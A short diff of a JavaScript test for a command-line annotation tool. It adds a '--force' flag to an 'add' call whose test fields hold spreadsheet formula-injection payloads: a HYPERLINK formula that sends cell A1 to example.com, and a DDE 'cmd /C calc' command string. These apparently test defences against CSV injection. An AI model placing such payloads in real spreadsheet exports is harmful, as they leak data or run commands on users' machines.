@@ -86,7 +86,7 @@ describe('spreadsheets', () => {
     const { start, end } = spanOf('安吉县同轻井泽町的交往');
     const names = { a: '=HYPERLINK("http://example.com/?"&A1,"详情")', b: "+cmd|' /C calc'!A0" };
     const fields = { a: { name: names.a, country: '中国' }, b: { name: names.b, country: '@SUM(1+1)' }, relation: 'sister', since: null };
-    const added = await youcheng(['add', '--db', path, '--doc', ARTICLE_ID, '--type', 'city_pair', '--start', String(start), '--end', String(end), '--fields', JSON.stringify(fields)], {
+    const added = await youcheng(['add', '--force', '--db', path, '--doc', ARTICLE_ID, '--type', 'city_pair', '--start', String(start), '--end', String(end), '--fields', JSON.stringify(fields)], {
       env: { USER: 'tester' },
     });
     expect(added.code).toBe(0);
